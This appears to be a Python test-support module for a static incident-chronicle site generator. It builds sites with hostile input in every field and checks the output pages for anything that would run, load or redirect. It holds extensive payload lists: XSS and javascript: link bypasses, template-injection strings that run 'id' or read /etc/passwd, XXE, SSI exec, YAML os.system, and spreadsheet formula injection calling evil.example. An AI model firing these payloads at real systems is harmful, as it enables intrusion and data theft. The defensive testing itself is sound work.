"""Hostile texts, a site in which each stands in every field, and what in a page would run, load or lead away."""

from __future__ import annotations

import json
import re
import unicodedata
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Final

from sites import PICTURE, entry, incident, location, tree

from chronicle.pages.policy import policy_of

if TYPE_CHECKING:
    from pathlib import Path

# Each would set `pwned` somewhere if it ran, or ask or lead to evil.example.
ELEMENTS: Final = (
    "<script>pwned=1</script>",
    "<SCRIPT\n>pwned=1</SCRIPT\n>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>pwned=1</scr</script>ipt>",
    "<script type=module>pwned=1</script>",
    '<script type="application/json" id="map-settings">{"tiles": "https://evil.example/{z}/{x}/{y}"}</script>',
    "<script/x>pwned=1</script",
    "<img src=x onerror=pwned=1>",
    "<IMG\nSRC=x\nONERROR=pwned=1>",
    "<img/src=x/onerror=pwned=1>",
    "<img src=x onerror=pwned=1 ",
    "<img src='https://evil.example/x.png' srcset='https://evil.example/y.png 2x'>",
    "<image src=x onerror=pwned=1>",
    "<svg/onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x></svg>",
    "<svg><a><set attributeName=href to=javascript:pwned=1></set><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwned=1</script></svg>#x'/></svg>",
    "<svg><foreignObject><body onload=pwned=1></foreignObject></svg>",
    "<math><a xlink:href=javascript:pwned=1>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned=1&gt;'>",
    '<iframe src="javascript:pwned=1"></iframe>',
    "<iframe srcdoc='&lt;script&gt;pwned=1&lt;/script&gt;'></iframe>",
    "<frameset onload=pwned=1><frame src=javascript:pwned=1></frameset>",
    '<object data="javascript:pwned=1"></object><embed src="javascript:pwned=1">',
    "<object type=text/html data='data:text/html,<script>pwned=1</script>'></object>",
    "<applet code=x archive=https://evil.example/x.jar></applet>",
    '<form action="javascript:pwned=1"><button formaction="javascript:pwned=1">x</button></form>',
    '<form id="explorer-form"><input name="getElementById" autofocus onfocus=pwned=1></form>',
    "<input autofocus onfocus=pwned=1><select autofocus onfocus=pwned=1></select>",
    "<textarea autofocus onfocus=pwned=1></textarea><keygen autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1><summary>x</summary></details>",
    "<video><source onerror=pwned=1></video><audio src=x onerror=pwned=1></audio>",
    '<video src="//evil.example/x.mp4" poster="//evil.example/x.png" autoplay></video>',
    "<body onload=pwned=1 background=//evil.example/x.png>",
    "<marquee onstart=pwned=1>x</marquee><bgsound src=//evil.example/x>",
    "<x- onclick=pwned=1 tabindex=1 onfocus=pwned=1 autofocus>x</x->",
    '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
    "<link rel=dns-prefetch href=//evil.example><link rel=preload as=script href=//evil.example/x.js>",
    '<meta http-equiv=refresh content="0;url=javascript:pwned=1">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src * 'unsafe-inline'\">",
    "<meta name=referrer content=unsafe-url><meta charset=utf-7>",
    "<style>@import 'https://evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    '<p style="background:url(https://evil.example/x.png)">x</p>',
    "<p style=\"position:fixed;inset:0;background-image:image-set('//evil.example/x.png' 1x)\">x</p>",
    "<div id=map></div><a id=explorer name=chronicle href=//evil.example>x</a><img name=chronicle>",
    "<div data-pagefind-ignore=all></div><p data-pagefind-meta='title:x'>x</p>",
    "<template><script>pwned=1</script></template><slot onslotchange=pwned=1></slot>",
    '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
    "<plaintext>", "<xmp><img src=x onerror=pwned=1></xmp>", "<!doctype html><html onclick=pwned=1>",
    "<title><img src=x onerror=pwned=1></title><textarea><img src=x onerror=pwned=1>",
    "<dialog open onclose=pwned=1>x</dialog><p popover onbeforetoggle=pwned=1>x</p>",
    "<a href=https://a.example/ ping=https://evil.example/ target=_blank>x</a>",
    "<table background=//evil.example/x.png><td background=//evil.example/y.png onclick=pwned=1>x</table>",
)  # fmt: skip
BREAKS: Final = (
    "<!--><img src=x onerror=pwned=1>-->",
    "<!--[if gte IE 4]><script>pwned=1</script><![endif]-->",
    "<?php pwned() ?><![CDATA[<img src=x onerror=pwned=1>]]>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    '"><script>pwned=1</script><p title="',
    "' onmouseover='pwned=1",
    '" onmouseover="pwned=1" x="',
    " onmouseover=pwned=1 autofocus onfocus=pwned=1 tabindex=1 ",
    "`><img src=x onerror=pwned=1>`",
    "</title></style></textarea></script><script>pwned=1</script>",
    "</script><!--<script>", "\u2028pwned=1//\u2029", "';pwned=1//", '\\";pwned=1//', "${pwned=1}",
    "]]></summary></feed><x onload=pwned=1 xmlns='http://www.w3.org/1999/xhtml'/>",
    "]]></description></Placemark><NetworkLink><Link><href>https://evil.example/</href></Link></NetworkLink>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;script&gt;pwned=1&lt;/script&gt;", "&#60;img src=x onerror=pwned=1&#62;", "%3Cscript%3Epwned=1%3C/script%3E",
    "+ADw-script+AD4-pwned=1+ADw-/script+AD4-", "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
    "<\u2060script>pwned=1<\u2060/script>", "<\u200bscript>pwned=1</script>",
)  # fmt: skip
LINKS: Final = (
    '<a href="javascript:pwned=1">x</a>',
    '<a href="java\tscript:pwned=1">x</a>',
    '<a href=" &#1;javascript:pwned=1">x</a>',
    "<a href='javascript&colon;pwned=1'>x</a><a href='&#x6A;ava&#x0A;script:pwned=1'>y</a>",
    '<a href="data:text/html,<script>pwned=1</script>">x</a>',
    "<a href='//evil.example'>x</a><a href='\\\\evil.example'>y</a><a href='/\\evil.example'>z</a>",
    "[x](javascript:pwned=1)", "[x](JaVaScRiPt:pwned=1)", "[x](<javascript:pwned=1>)", "[x]( javascript:pwned=1 )",
    "[x](java&#115;cript:pwned=1)", "[x](&#106;avascript:pwned=1)", "[x](javascript&colon;pwned=1)",
    "[x](\\javascript:pwned=1)", "[x](java%0ascript:pwned=1)", "[x](%6aavascript:pwned=1)",
    "[x](&#1;javascript:pwned=1)",
    "[x](\u200bjavascript:pwned=1)", "[x](\ufeffjavascript:pwned=1)", "[x](\u00a0javascript:pwned=1)",
    "[x](\uff4aavascript:pwned=1)", "[x](javascript\uff1apwned=1)", "[x](\u017fcript:pwned=1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](DATA:,x)", "[x](vbscript:pwned=1) [y](file:///etc/passwd)",
    "[x](//evil.example) [y](///evil.example) [z](\\\\evil.example)", "[x](/\\evil.example) [y](\\/evil.example)",
    "[x](https:evil.example) [y](http:/evil.example) [z](https:///evil.example)",
    "[x](https://a.example\\@evil.example/) [y](https://a.example%00.evil.example/)",
    "[x](feed:javascript:pwned=1) [y](view-source:https://evil.example/) [z](jar:https://evil.example/x!/)",
    "[x](blob:https://evil.example/1) [y](filesystem:https://evil.example/t/x) [z](about:blank)",
    "[x](intent://evil.example/#Intent;scheme=http;end) [y](ms-word:ofe|u|https://evil.example/) [z](tel:+1)",
    "[x](mailto:a@a.example?body=<script>pwned=1</script>) <mailto:b@b.example>",
    "[x](https://a.example/ 'a\" onmouseover=\"pwned=1')",
    '[x](https://a.example/" onmouseover="pwned=1)',
    "[x](ref:0) [y](ref:999999) [z](ref:javascript:pwned=1) ![x](ref:0)",
    "![x](javascript:pwned=1)", "![x](https://evil.example/x.png)", "![x](//evil.example/x.png)",
    "![x](data:image/svg+xml,<svg/onload=pwned=1>)", '![" onerror="pwned=1](media/a.txt)',
    "![<img src=x onerror=pwned=1>](media/a.txt) ![<img src=x onerror=pwned=1>](media/a.png)",
    "[r]: javascript:pwned=1\n\n[r] [x][r]", "[r]: <java\tscript:pwned=1> 'x'\n\n[r]",
    "[r]:\njavascript:pwned=1\n\n[r]",
    "[r]: https://a.example/ 'a\" onmouseover=\"pwned=1'\n\n[r]",
    "<javascript:pwned=1> <data:text/html,x> <vbscript:x>", '<https://a.example/"onmouseover="pwned=1>',
    "[[x|<img src=x onerror=pwned=1>]]", '[[" onmouseover="pwned=1]]', "[[<script>pwned=1</script>]]",
    "[[location:<img src=x onerror=pwned=1>]] [[javascript:pwned=1|x]] [[constructor]] [[__proto__]]",
)  # fmt: skip
MARKDOWN: Final = (
    "# Title {: onclick=pwned=1 }",
    '[x](https://a.example/){: onclick="pwned=1" href="javascript:pwned=1" }',
    '*[HTML]: " onmouseover="pwned=1\n\nHTML',
    "[^1]\n\n[^1]: <img src=x onerror=pwned=1>",
    '[^"onclick=pwned=1]\n\n[^"onclick=pwned=1]: x',
    "[^map] [^explorer-words]\n\n[^map]: x\n[^explorer-words]: y",
    "| a |\n|---|\n| <script>pwned=1</script> |",
    '| a |\n|:-" onclick=pwned=1 -:|\n| [x](javascript:pwned=1) |',
    "```html onclick=pwned=1\n<script>pwned=1</script>\n```",
    "``` {.x onclick=pwned=1}\n</code></pre><script>pwned=1</script>\n```",
    "`<script>pwned=1</script>` ``</code><img src=x onerror=pwned=1>``",
    '<div markdown="1" onclick="pwned=1">\n\n[x](javascript:pwned=1)\n\n</div>',
    "> <script>\n> pwned=1\n> </script>\n\n1. <img src=x\n   onerror=pwned=1>",
    "<p>\n\n<script>\n\npwned=1\n\n</script>",
    "Setext <img src=x onerror=pwned=1>\n===\n\n<script>pwned=1</script>\n---",
    "\\<script>pwned=1\\</script> \\![x](javascript:pwned=1)",
    "wzxhzdk:0 wzxhzdk:1 <b>x</b> klzzwxh:0001 \x02klzzwxh:0000\x03",
)  # fmt: skip
ENGINES: Final = (
    "{{ 7 * 7191 }} {% include '/etc/passwd' %} {{ site.__class__.__mro__ }} {{ cycler.__init__.__globals__ }}",
    "{% raw %}{{ site }}{# comment #}", "{% endblock %}{% block head %}{{ 7*7191 }}", "{%- import 'os' as o -%}{{ o }}",
    "{{ self._TemplateReference__context }} {{ lipsum.__globals__['os'].popen('id').read() }} {{ config }}",
    "%(title)s %(agency)s {title} {0.__class__} {name.__init__.__globals__}",
    "<%= 7 * 7191 %> <% system('id') %> <%! import os %>", "#{7 * 7191} #{`id`} #set($x=7*7191)$x",
    "${7 * 7191} ${{7 * 7191}} $((7*7191)) `expr 7 \\* 7191`", "*{7*7191} @{7*7191} ~{x} [[${7*7191}]] [(${7*7191})]",
    "{7*7191} {php}echo 7*7191;{/php} {system('id')}", "{{= 7*7191 }} {{! 7*7191 }} {{#with 7}}{{this}}{{/with}}",
    "{{constructor.constructor('pwned=1')()}} {{$on.constructor('pwned=1')()}}", "<th:block th:text='${7*7191}'/>",
    '{{ include_relative /etc/passwd }} {% highlight %}{{< readfile "/etc/passwd" >}}', "[[!include /etc/passwd]]",
    '<!--#include file="/etc/passwd" --><!--#exec cmd="id" -->', "@import url(/etc/passwd); \\input{/etc/passwd}",
    '<esi:include src="https://evil.example/"/>', "!!python/object/apply:os.system [id]", "$(id) `id` ; id | id && id",
)  # fmt: skip
FORMULAS: Final = tuple(
    f"{lead}{formula}"
    for formula in ("=1+pwned", "@SUM(pwned)", "+pwned", "-1+pwned", '=HYPERLINK("https://evil.example/")', "=cmd|x!A0")
    for lead in ("", "'", "''", ";", '"', "\uff1d", "\ufeff", "\u200b")
)  # fmt: skip
DIRECTIONS: Final = ("\u202egnp.pwned", "\u2066x\u2069\u2067", "a\u0300" * 40, "x\U000e0041\U000e0042", "x\ufffe\uffff")
WORDS: Final = ("constructor", "__proto__", "hasOwnProperty", "toString", "index", "null", "undefined", "NaN", "true")

PAYLOADS: Final = (*ELEMENTS, *BREAKS, *LINKS, *MARKDOWN, *ENGINES)
LINES: Final = tuple(
    unicodedata.normalize("NFC", " ".join(re.sub("[\x00-\x08\x0e-\x1f]", "", text).split()))
    for text in (*PAYLOADS, *FORMULAS, *DIRECTIONS, *WORDS)
    if "\ufffe" not in text
)
_MARKUP_LINES: Final = frozenset(" ".join(text.split()) for text in (*ELEMENTS, *BREAKS, *LINKS, *ENGINES))
# What no file of a site may have in it, whatever the reader of the file makes of it. 50337 is what engines make of it.
RAW: Final = (
    *sorted(
        {tag.casefold() for text in PAYLOADS for tag in re.findall(r"<[A-Za-z!?][^\s>&/]*[\s/][^>]*>", text)}
        - {"<!doctype html>", '<script type="application/json" id="map-settings">'}  # each page has these of its own
    ),
    *("<script>pwned", "<script>\npwned", "<plaintext>", "<xmp>", "<style>@", "<!--[if", "<![cdata["),
)
NEVER: Final = ("50337", "root:x:0", 'onmouseover="pwned', 'href="javascript', "uid=0")


# ---- a site full of them


def written(text: str) -> str:
    """A text in quotes, as YAML and TOML read it."""
    return json.dumps(text, ensure_ascii=False)


def fields_of(payload: str) -> dict[str, str]:
    """Every field of an incident with the payload in it."""
    text = written(payload)
    return {
        "locations": f"[{text}]",
        "types": f"[{text}]",
        "actors": f"[{{actor: {text}, role: claimed}}]",
        "weapons": f"[{text}]",
        "casualties": f"[{{killed: 1, of: {text}, who: {text}, source: {text}}}]",
        "sources": f"[{{publisher: {text}, via: {text}, title: {text}, url: 'https://a.example/?q=%3C'}}]",
        "summary": text,
        "tags": f"[{text}]",
        "ids": f"{{acled: {text}}}",
        "updates": f"[{{date: 2023-10-20, text: {text}}}, {{date: 2023-10-21, kind: correction, text: {text}}}]",
        "needs_review": f"[{text}]",
        "evidence": f"[{{field: {text}, quote: {text}}}]",
        "media": f"[{', '.join(f'{{file: {file}, alt: {text}, caption: {text}, credit: {text}}}' for file in MEDIA)}]",
    }  # fmt: skip


MEDIA: Final = {"media/a.txt": b"<script>pwned=1</script>", "media/a.png": PICTURE}


def files_of(number: int, payload: str) -> dict[str, str | bytes]:
    """An entry of each kind, and of each state, with the payload in every field; of what is no markup, an incident."""
    if payload not in _MARKUP_LINES:
        return {f"incidents/i-{number:03}.md": incident(payload, **fields_of(payload))}
    text = written(payload)
    named = {"name": text, "spellings": f"[{text}]", "names": f"{{ar: {text}, en: {text}}}"}
    around = f"[{number % 60}.5, {number % 150}.5]"
    return {
        f"incidents/i-{number:03}.md": incident(payload, **fields_of(payload)),
        f"incidents/p-{number:03}.md": incident(f"{payload} ", locations=f"[l-{number:03}]", part_of=f"i-{number:03}"),
        f"incidents/w-{number:03}.md": incident(payload, status="withdrawn", duplicate_of=f"i-{number:03}"),
        f"locations/l-{number:03}.md": entry(**named, coordinates=around, precision=("exact", "district")[number % 2]),
        f"actors/a-{number:03}.md": entry(**named),
        f"articles/r-{number:03}.md": entry(
            title=text, publisher=text, via=text, dateline=f"{{place: {text}}}", seed=text
        ),
        f"notes/n-{number:03}.md": entry("Text.", title=text),
    }


def bodies_of(number: int, payload: str) -> dict[str, str | bytes]:
    """An entry of each kind with the payload as its body."""
    body = f"Before.\n\n{payload}\n\nAfter.".replace("\x02", "").replace("\x03", "")
    return {
        f"incidents/b-{number:03}.md": incident(f"B {number}", body=body, locations="[constructor, b-000]"),
        f"locations/b-{number:03}.md": location(f"L {number}", body=body),
        f"actors/b-{number:03}.md": location(f"A {number}", body=body),
        f"articles/b-{number:03}.md": entry(body, title=f"R {number}", rights="full"),
        f"notes/b-{number:03}.md": entry(body, title=f"N {number}"),
    }


def config_of(payload: str) -> str:
    """Settings with the payload in all of their words."""
    words = written(payload)
    return (
        f'format = 1\ntitle = {words}\nurl = "https://example.org/log/"\ndescription = {words}\n'
        f"[feed]\nid = {words}\n[data]\nlicense = {words}\n"
        f'[repository]\nurl = "https://git.example/o/r"\nbranch = {words}\n'
        f'[menu]\n{words} = "index.html"\n[types.x]\nlabel = {words}\ngroup = {words}\nacled = {words}\n'
        f"[grades.x]\nlabel = {words}\ntext = {words}\n"
    )


def site_files(lines: tuple[str, ...] = LINES, bodies: tuple[str, ...] = PAYLOADS) -> dict[str, str | bytes]:
    """All of them in one project."""
    files: dict[str, str | bytes] = {"chronicle.toml": config_of(BREAKS[4]), **MEDIA}
    for number, payload in enumerate(lines):
        files |= files_of(number, payload)
    for number, payload in enumerate(bodies):
        files |= bodies_of(number, payload)
    for name in ("constructor", "tostring", "hasownproperty", "then", "length", "map", "explorer"):
        files[f"locations/{name}.md"] = location(name, coordinates="[1, 1]", precision="country", country_code="IQ")
        files[f"incidents/{name}.md"] = incident(name, locations=f"[{name}]", grade="x", types="[x]")
    return files


# ---- what would run


DATA_TYPES: Final = {"application/json", "application/ld+json"}
POLICY: Final = str([("http-equiv", "Content-Security-Policy"), ("content", policy_of())])  # each page has it
TILES: Final = re.compile(r"(?<=; img-src 'self' file:) https?://[\w.:*-]+(?=;)", re.ASCII)  # and the host of a map
OWN_SCRIPT: Final = re.compile(r"(?:(?:\.\./)*|/(?:[a-z]+/)*)assets/(?:data/)?[a-z0-9-]+\.js\Z")  # files of the theme

MOVED: Final = re.compile(r"\[\('http-equiv', 'refresh'\), \('content', '0; url=[a-z0-9./-]+'\)\]\Z")  # our redirects


class Live(HTMLParser):
    """Everything in a page that would run, load or send something."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self._in_data = False
        self.feed(html)
        self.close()

    def handle_data(self, data: str) -> None:
        """Data for machines must be JSON that cannot end its element."""
        if self._in_data:
            json.loads(data)
            self.found += ["script"] if "<" in data else []
            self._in_data = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge one element."""
        self._in_data = tag == "script" and dict(attrs).get("type") in DATA_TYPES
        if (tag == "script" and OWN_SCRIPT.match(dict(attrs).get("src") or "")) or self._in_data:
            return
        if tag in {"script", "iframe", "object", "embed", "base", "style", "math", "video", "noscript"}:
            self.found.append(tag)
        if tag in {"form", "svg"} and not _is_ours(tag, dict(attrs)):
            self.found.append(tag)
        for name, value in attrs:
            text = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "srcset", "ping", "background"}:
                self.found.append(f"{tag} {name}")
            elif name in {"href", "src"} and not is_harmless(value or ""):
                self.found.append(f"{tag} {name}={value}")
            elif tag not in {"a", "meta"} and name in {"href", "src"} and re.match(r"(?:https?:)?//", text):
                self.found += [] if ("rel", "canonical") in attrs else [f"{tag} {name}={value}"]
            elif tag == "meta" and name == "http-equiv" and not _is_known(str(attrs)):
                self.found.append(f"meta {value}")


def _is_known(attrs: str) -> bool:
    """Whether what a page says in the place of a server is our policy, or a redirect of ours."""
    return TILES.sub("", attrs) == POLICY or bool(MOVED.match(attrs))


def _is_ours(tag: str, attrs: dict[str, str | None]) -> bool:
    """The drawings and the forms of the theme, which send nothing."""
    if tag == "svg":
        return "viewbox" in attrs or attrs.get("class") == "bars"
    return attrs.get("id") == "map-filters" and "action" not in attrs


def is_harmless(address: str) -> bool:
    """Whether an address is one of another web site, of a mailbox, or relative within this site."""
    text = re.sub(r"[\x00-\x20\xa0]", "", address)
    if re.match(r"(?i)https?://[^/\\]", text):
        return True
    return bool(re.match(r"mailto:", text)) or not re.match(r"(?i)[a-z][a-z0-9+.-]*:|[/\\]{2}", text)


def live(site: Path) -> dict[str, list[str]]:
    """What is live in the pages of a site; redirects of our own do not count."""
    found = {name: Live(data.decode()).found for name, data in tree(site).items() if name.endswith((".html", ".svg"))}
    # A picture has colours of its own; it is one file, and nobody's words stand in its style.
    found = {
        name: [item for item in items if item != "style" or name.endswith(".html")] for name, items in found.items()
    }
    return {name: items for name, items in found.items() if items}


def raw_in(site: Path) -> dict[str, list[str]]:
    """Markup of payloads that stands letter by letter in a file of a site, and what must never be in any."""
    found: dict[str, list[str]] = {}
    for name, data in tree(site).items():
        if name.startswith(("assets/leaflet", "pagefind/", "media/", ".chronicle-")):
            continue
        text = re.sub("[0-9a-f]{16,}", "", data.decode("utf-8", "replace").casefold())  # a digest has any number in it
        if faults := [what for what in (*RAW, *NEVER) if what in text]:
            found[name] = faults
    return found
